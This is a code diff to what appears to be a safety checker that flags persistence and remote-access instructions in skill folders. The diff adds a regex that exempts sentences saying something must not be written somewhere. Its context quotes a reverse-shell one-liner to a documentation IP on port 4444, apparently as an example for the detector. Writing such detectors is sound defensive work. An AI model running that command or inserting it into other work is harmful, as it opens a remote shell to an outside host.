@@ -20,6 +20,7 @@ bash -i >& /dev/tcp/198.51.100.7/4444 0>&1
 Nothing: no task needs this. What must run regularly is set up by the user.
 """
 
+import re
 from collections.abc import Iterator
 
 from skillkit.model.finding import Violation
@@ -59,6 +60,10 @@ from skillkit.safety.standing_orders import written_out
 
 PRINTED = Pattern(r"\s*(?:sudo\s+)?(?:echo|printf)\s")
 """A line that holds all that it writes."""
+
+
+ELSEWHERE = Pattern(r"[.;,:]\s+(?:but )?(?:not|never) (?:in|into|to)\b", re.IGNORECASE)
+"""It is to be written, but not there."""
 
 
 def _declared(folder: SkillFolder) -> bool:
@@ -110,6 +115,12 @@ def _staying(folder: SkillFolder) -> Iterator[Hit]:
             yield hit
 
 
+def _told(folder: SkillFolder) -> Iterator[Hit]:
+    """Sentences that have something stay, but not those that say where it is not to be."""
+    told = hits(folder, SENTENCES, TOLD, "prose", "comment")
+    yield from (hit for hit in told if not ELSEWHERE.compiled.search(hit.match[0]))
+
+
 def _is_asked_for(folder: SkillFolder, hit: Hit) -> bool:
     """Whether a sentence on who may log in stands in a skill that describes itself as one for that."""
     return "authorized_keys" in hit.match[0] and says_of_itself(folder, KEYS)
@@ -123,7 +134,11 @@ def check(folder: SkillFolder) -> Iterator[Violation]:
         *hits(folder, OPENED, OPENS, "run", "inline", "comment"),
         *hits(folder, LET_IN, LETS_IN, "run", "inline", "comment"),
         *_staying(folder),
-        *hits(folder, SENTENCES, TOLD, "prose", "comment"),
+        *(
+            hit
+            for hit in hits(folder, SENTENCES, TOLD, "prose", "comment")
+            if not ELSEWHERE.compiled.search(hit.match[0])
+        ),
         *told_around(folder, STANDING),
         *written_out(folder),
     ):
